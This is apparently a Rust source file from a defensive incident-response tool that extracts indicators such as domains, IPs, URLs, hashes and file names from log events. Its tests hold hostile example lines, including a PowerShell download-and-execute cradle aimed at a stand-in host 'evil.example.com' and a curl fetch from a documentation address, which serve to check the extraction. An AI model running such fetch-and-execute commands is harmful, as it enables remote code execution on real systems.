//! The values that an event holds, typed: what a responder looks for next.
//!
//! This reads the few events of findings, and is read by a person; so it goes by the names of fields where a shape does not tell (32
//! hexadecimal digits are an MD5 only where a hash is meant), and takes less than the matching of indicators would.

use crate::text::said;
use event::{Event, Paths, Value};
use hunt::Look;
use statement::observable::{Kind, Observable, domain, email, file_name, hash, ipv4, ipv6, url, user_agent};
use std::{collections::BTreeSet, fmt};

/// How many bytes of a value are looked through: a script block can have a mebibyte, and names its server at the start or not.
const MAX_SEARCHED: usize = 64 << 10;

/// How many different values are taken from one event.
const MAX_VALUES: usize = 500;

/// Fields that hold a name of the DNS, by the last part of their path in lower case.
const NAMES: [&str; 18] = [
    "queryname",
    "query",
    "rrname",
    "destinationhostname",
    "sourcehostname",
    "server_name",
    "sni",
    "host",
    "hostname",
    "domain",
    "remotename",
    "cs-host",
    "r-dns",
    "host_header",
    "registered_domain",
    "targetservername",
    "dst_hostname",
    "resource",
];

/// Fields that hold a user agent, likewise.
const AGENTS: [&str; 6] =
    ["user_agent", "useragent", "http_user_agent", "c-useragent", "cs-user-agent", "user_agent_original"];

/// Words in the path of a field that holds hashes of files, and of one that holds other sums that look like them.
const HASHES: [&str; 4] = ["hash", "md5", "sha1", "sha256"];
const NO_HASHES: [&str; 9] =
    ["imphash", "pehash", "ja3", "ja4", "hassh", "passwordhash", "ticket", "fingerprint", "thumbprint"];

/// Endings of names of files that are run, loaded, opened or unpacked.
const ENDINGS: [&str; 43] = [
    "exe", "dll", "sys", "scr", "pif", "cpl", "ocx", "drv", "bat", "cmd", "ps1", "psm1", "psd1", "vbs",
    "vbe", "js", "jse", "wsf", "wsh", "hta", "sct", "xsl", "msi", "msp", "lnk", "inf", "reg", "chm", "jar",
    "py", "sh", "php", "aspx", "jsp", "zip", "rar", "7z", "iso", "img", "doc", "docm", "xlsm", "kdbx",
];

/// What a value is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum What {
    /// A value of the vocabulary.
    Observable(Kind),
    /// An account.
    User,
    /// A machine of one's own, as its logs name it.
    Host,
}

impl fmt::Display for What {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(match self {
            What::Observable(kind) => kind.as_str(),
            What::User => "user",
            What::Host => "host",
        })
    }
}

/// The typed values of an event, each once: its users and host, and what its fields hold.
pub fn around(look: &Look<'_, '_>, paths: &Paths, event: &Event<'_>) -> BTreeSet<(What, String)> {
    let mut found = Around::default();
    let host = look.host().and_then(said);
    host.iter().for_each(|host| found.put(What::Host, host.clone()));
    look.user().and_then(said).into_iter().for_each(|user| found.put(What::User, user));
    let logon = crate::logon(look);
    let accounts = logon.into_iter().flat_map(|logon| [logon.account, logon.by]);
    accounts.filter(|account| !account.is_empty()).for_each(|account| found.put(What::User, account));
    for field in event.fields {
        let path = paths.name(field.path).to_ascii_lowercase();
        // The name of a schema is written like a URL, and nobody goes there.
        if let Value::Text(text) = field.value
            && !path.ends_with("xmlns")
        {
            found.field(&path, start(text));
        }
    }
    // The machine itself is no find, whichever field names it.
    found.values.retain(|(what, value)| {
        *what == What::Host || host.as_ref().is_none_or(|host| !host.eq_ignore_ascii_case(value))
    });
    found.values
}

/// As much of a text as is looked through.
fn start(text: &str) -> &str {
    let mut end = text.len().min(MAX_SEARCHED);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or_default()
}

#[derive(Default)]
struct Around {
    values: BTreeSet<(What, String)>,
    scratch: String,
}

impl Around {
    fn put(&mut self, what: What, value: String) {
        if self.values.len() < MAX_VALUES {
            self.values.insert((what, value));
        }
    }

    fn observable(&mut self, kind: Kind, value: &str) {
        self.put(What::Observable(kind), value.to_owned());
    }

    /// A field with its path in lower case.
    fn field(&mut self, path: &str, text: &str) {
        let leaf = path.rsplit('.').next().unwrap_or(path);
        let mut scratch = std::mem::take(&mut self.scratch);
        if AGENTS.contains(&leaf) || path.ends_with("user_agent.original") {
            if let Some(form) = user_agent(text, &mut scratch) {
                self.observable(Kind::UserAgent, form.text);
            }
        } else if is_hash_field(path) {
            self.hashes(text, &mut scratch);
        } else {
            let is_name = NAMES.contains(&leaf) || path.ends_with("dns.question.name");
            let named = is_name && self.name(text, &mut scratch);
            if !named && !leaf.contains("version") {
                self.tokens(text, &mut scratch);
            }
        }
        self.scratch = scratch;
    }

    /// A whole value that is a name of the DNS, if it is one.
    fn name(&mut self, text: &str, scratch: &mut String) -> bool {
        let bare = text.trim().trim_end_matches('.');
        let Some(form) = domain(bare, scratch).filter(|_| bare.contains('.')) else { return false };
        self.observable(Kind::Domain, form.text);
        true
    }

    /// `SHA256=...,MD5=...,IMPHASH=...`, or the digits alone.
    fn hashes(&mut self, text: &str, scratch: &mut String) {
        for part in text.split([',', ';', ' ', '|']) {
            let (label, digits) = part.split_once(['=', ':']).unwrap_or(("", part));
            if NO_HASHES.iter().any(|no| label.eq_ignore_ascii_case(no)) {
                continue;
            }
            if let Some((kind, form)) = hash(digits.trim(), scratch) {
                self.observable(kind, form.text);
            }
        }
    }

    /// What stands in a text between blanks and quotes.
    fn tokens(&mut self, text: &str, scratch: &mut String) {
        if let Some(path) = whole_path(text) {
            return self.file(path, scratch);
        }
        let apart = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | '|');
        for chunk in text.split(apart).filter(|chunk| chunk.len() > 3) {
            match chunk.find("://") {
                Some(colon) => self.url(chunk, colon, scratch),
                None => self.words(chunk, scratch),
            }
        }
    }

    fn url(&mut self, chunk: &str, colon: usize, scratch: &mut String) {
        let before = chunk.get(..colon).unwrap_or_default();
        let scheme = before.bytes().rev().take_while(|byte| byte.is_ascii_alphanumeric()).count();
        let whole =
            chunk.get(colon - scheme..).unwrap_or_default().trim_end_matches([')', ']', '}', ',', ';', '.']);
        let Some(text) = url(whole, scratch).map(|form| form.text.to_owned()) else { return };
        let host = text.split(['/', '?']).next().unwrap_or(&text);
        let host = host.rsplit_once(':').map_or(host, |(host, _port)| host);
        match ipv4(host.as_bytes()) {
            Some(address) => self.observable(Kind::Ipv4, &address.to_string()),
            None => drop(self.name(host, scratch)),
        }
        self.observable(Kind::Url, &text);
    }

    fn words(&mut self, chunk: &str, scratch: &mut String) {
        for word in chunk.split([',', ';', '=', '(', ')', '[', ']', '{', '}']).filter(|word| word.len() > 2) {
            if self.address(word) {
                continue;
            }
            if word.contains('@') {
                self.mail(word, scratch);
            } else if has_ending(word) {
                self.file(word, scratch);
            }
        }
    }

    fn address(&mut self, word: &str) -> bool {
        let word = word.trim_start_matches('\\');
        if word.starts_with(|c: char| c.is_ascii_digit()) {
            let host = word.split(['/', ':', '\\']).next().unwrap_or(word);
            if let Some(address) = ipv4(host.as_bytes()) {
                self.observable(Kind::Ipv4, &address.to_string());
                return true;
            }
        }
        // `::` alone and times such as 10:20:30 are no addresses of machines.
        if word.bytes().filter(|byte| *byte == b':').count() > 1
            && let Some((address, _)) = ipv6(word.as_bytes())
        {
            let kind = if address.is_ipv4() { Kind::Ipv4 } else { Kind::Ipv6 };
            self.observable(kind, &address.to_string());
            return true;
        }
        false
    }

    fn mail(&mut self, word: &str, scratch: &mut String) {
        let known = Observable::read(word).is_ok_and(|read| read.observable.kind() == Kind::Email);
        if let Some(form) = email(word, scratch).filter(|_| known) {
            self.observable(Kind::Email, form.text);
        }
    }

    fn file(&mut self, path: &str, scratch: &mut String) {
        if let Some(form) = file_name(path, scratch).filter(|form| form.text.contains('.')) {
            self.observable(Kind::FileName, form.text);
        }
    }
}

fn is_hash_field(path: &str) -> bool {
    HASHES.iter().any(|word| path.contains(word)) && !NO_HASHES.iter().any(|word| path.contains(word))
}

/// A value that is nothing but a path of a file.
fn whole_path(text: &str) -> Option<&str> {
    let rooted = matches!(text.as_bytes(), [letter, b':', b'\\', ..] if letter.is_ascii_alphabetic())
        || text.starts_with("\\Device\\")
        || text.starts_with("\\??\\");
    let alone = !text.contains(['"', '\n']) && !text.contains(" /") && !text.contains(" -");
    let one = text.matches(":\\").count() < 2;
    (rooted && alone && one && has_ending(text)).then_some(text)
}

fn has_ending(word: &str) -> bool {
    let ending = word.rsplit_once('.').map(|(_, ending)| ending.to_ascii_lowercase());
    ending.is_some_and(|ending| ENDINGS.contains(&ending.as_str()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(path: &str, text: &str) -> Vec<String> {
        let mut around = Around::default();
        around.field(path, text);
        around.values.iter().map(|(what, value)| format!("{what} {value}")).collect()
    }

    #[test]
    fn values_are_found_where_they_are_meant() {
        let md5 = "0123456789abcdef0123456789abcdef";
        for (path, text, expected) in [
            ("image", r"C:\Program Files\A B\Evil.EXE", vec!["filename evil.exe"]),
            ("commandline", r"cmd.exe /c C:\x\run.ps1 -a 1", vec!["filename cmd.exe", "filename run.ps1"]),
            ("commandline", r"C:\Windows\System32\cmd.exe /c copy", vec!["filename cmd.exe"]),
            (
                "scriptblocktext",
                "IEX (New-Object Net.WebClient).DownloadString('http://Evil.example.com:8080/a.ps1');",
                vec!["domain evil.example.com", "url evil.example.com:8080/a.ps1"],
            ),
            ("x", "curl https://203.0.113.9/p", vec!["ipv4 203.0.113.9", "url 203.0.113.9/p"]),
            ("sourceip", "203.0.113.9", vec!["ipv4 203.0.113.9"]),
            ("ipaddress", "::ffff:203.0.113.9", vec!["ipv4 203.0.113.9"]),
            ("destinationip", "2001:DB8::1", vec!["ipv6 2001:db8::1"]),
            ("message", "from 203.0.113.9:4444,ok", vec!["ipv4 203.0.113.9"]),
            ("queryname", "Evil.Example.com.", vec!["domain evil.example.com"]),
            ("queryname", "localhost", vec![]),
            ("queryname", "cdn.example.zip", vec!["domain cdn.example.zip"]),
            ("mail.from", "eve@example.com", vec!["email eve@example.com"]),
            ("http.user_agent", "Evil/1.0", vec!["user-agent evil/1.0"]),
        ] {
            assert_eq!(found(path, text), expected, "{path} {text}");
        }
        assert_eq!(found("hashes", &format!("MD5={md5},IMPHASH={md5}")), [format!("md5 {md5}")]);
        assert_eq!(found("process.hash.md5", md5), [format!("md5 {md5}")]);
    }

    #[test]
    fn what_only_looks_alike_is_left() {
        for (path, text) in [
            ("fileversion", "10.0.17.1"),
            ("session", "0123456789abcdef0123456789abcdef"),
            ("tls.ja3.hash", "0123456789abcdef0123456789abcdef"),
            ("utctime", "2020-01-01 10:20:30"),
            ("x", "1.2.3"),
            ("x", "System.IO.Compression"),
            ("targetobject", r"HKLM\Software\x"),
            ("commandline", "ping 1.2.3.4.5"),
        ] {
            assert_eq!(found(path, text), Vec::<String>::new(), "{path} {text}");
        }
    }
}
